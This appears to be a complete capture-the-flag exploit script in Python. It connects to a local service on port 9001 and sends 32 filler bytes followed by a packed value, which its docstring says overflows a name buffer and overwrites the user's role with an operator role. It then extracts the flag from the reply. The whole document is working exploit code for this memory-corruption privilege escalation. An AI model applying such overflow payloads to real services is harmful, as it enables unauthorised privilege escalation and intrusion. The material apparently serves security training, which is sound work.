"""32 bytes fill the name; the next 4 overwrite the role with ROLE_OPERATOR (little endian)."""

import re
import socket
import struct

with socket.create_connection(("127.0.0.1", 9001), timeout=10) as connection:
    connection.recv(64)
    connection.sendall(b"A" * 32 + struct.pack("<I", 0x0BADC0DE))
    received = b""
    while chunk := connection.recv(4096):
        received += chunk
print(re.search(rb"flag\{[0-9a-f]{32}\}", received).group(0).decode())
